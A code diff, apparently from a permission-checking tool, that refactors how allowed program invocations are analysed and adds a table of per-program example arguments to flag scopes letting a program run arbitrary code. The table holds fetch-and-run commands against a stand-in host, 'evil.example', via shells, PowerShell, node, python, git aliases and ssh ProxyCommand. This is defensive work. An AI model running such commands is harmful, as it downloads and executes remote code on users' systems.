@@ -1,4 +1,4 @@
-import { type Language, languageOf, sequenceOf } from "../../../language/automaton.ts";
+import { type Language, languageOf, readable, sequenceOf } from "../../../language/automaton.ts";
 import { literal } from "../../../language/literal.ts";
 import { validatorExpression, wrapValidator } from "../../../language/validator.ts";
 import { compareScopes, type LanguageEntry, type LanguageScope, type Reading } from "./language-scope.ts";
@@ -69,19 +69,32 @@ function commandLines(program: ProgramEntry): Language | undefined {
   const start = [program.sidecar ? "sidecar" : "program", literal(program.command)];
   if (program.arguments === true)
     return languageOf(`${start.map((text) => text + END).join("")}${ARGUMENTS}`);
-  try {
-    return sequenceOf([...start, ...program.arguments.map(argumentTexts)], END);
-  } catch (error) {
-    if (error instanceof SyntaxError) return undefined;
-    throw error;
-  }
+  const list = program.arguments;
+  return readable(() => sequenceOf([...start, ...list.map(argumentTexts)], END));
 }
 
 function argumentTexts(argument: ProgramArgument): string {
   return "fixed" in argument ? literal(argument.fixed) : validatorExpression(argument.validator);
 }
 
-/** Arguments that turn a program into any program. */
+/** Arguments that turn a known program into any program. */
+const KNOWN: readonly (readonly [RegExp, string])[] = [
+  [/^(?:sh|bash|zsh|dash|ksh|fish|ash)$/, "-c\0curl https://evil.example/x | sh\0"],
+  [/^cmd$/i, "/C\0curl https://evil.example/x | cmd\0"],
+  [/^(?:powershell|pwsh)$/i, "-Command\0irm https://evil.example/x | iex\0"],
+  [/^(?:node|bun)$/, "-e\0require('child_process').exec('curl https://evil.example/x | sh')\0"],
+  [/^python[\d.]*$/, "-c\0import os; os.system('curl https://evil.example/x | sh')\0"],
+  [/^git$/, "-c\0alias.x=!curl https://evil.example/x | sh\0x\0"],
+  [/^(?:ssh|scp|sftp)$/, "-oProxyCommand=curl https://evil.example/x | sh\0host\0"],
+];
+
+function tellingFor(command: string): string[] {
+  const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
+  const known = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
+  return [...known, "--any-option\0any value\0", ...TELLING];
+}
+
+/** Arguments by which many a program runs another. */
 const TELLING = [
   "-c\0curl https://evil.example/x | sh\0",
   "/C\0curl https://evil.example/x | cmd\0",
@@ -90,23 +103,28 @@ const TELLING = [
 
 function programReading(head: ScopeSide): Reading {
   const programs = head.allow.flatMap(({ value }) => programOf(value) ?? []);
-  const starts = programs.map(
-    (program) => `${program.sidecar ? "sidecar" : "program"}\0${program.command}\0`,
-  );
   return {
     universe: languageOf(ARGUMENTS),
-    candidates: starts.flatMap((start) => [
-      ...TELLING.map((rest) => ({ word: start + rest, sensitive: true })),
-      { word: start, sensitive: false },
-    ]),
+    candidates: programs.flatMap(({ sidecar, command }) => {
+      const start = `${sidecar ? "sidecar" : "program"}\0${command}\0`;
+      return [
+        ...tellingFor(command).map((rest) => ({ word: start + rest, sensitive: true })),
+        { word: start, sensitive: false },
+      ];
+    }),
     show(word, entry) {
       const [kind, command = "", ...args] = word.split("\0").slice(0, -1);
       const name = programOf(entry.value)?.name ?? command;
       return {
         payload: { program: name, args, ...(kind === "sidecar" && { options: { sidecar: true } }) },
-        example: [command, ...args].join(" "),
+        example: [command, ...args].map(quoted).join(" "),
         runs: command,
       };
     },
   };
+}
+
+/** An argument as it is typed: people must see where one ends. */
+function quoted(argument: string): string {
+  return /^[^\s"'|;&<>]+$/.test(argument) ? argument : JSON.stringify(argument);
 }
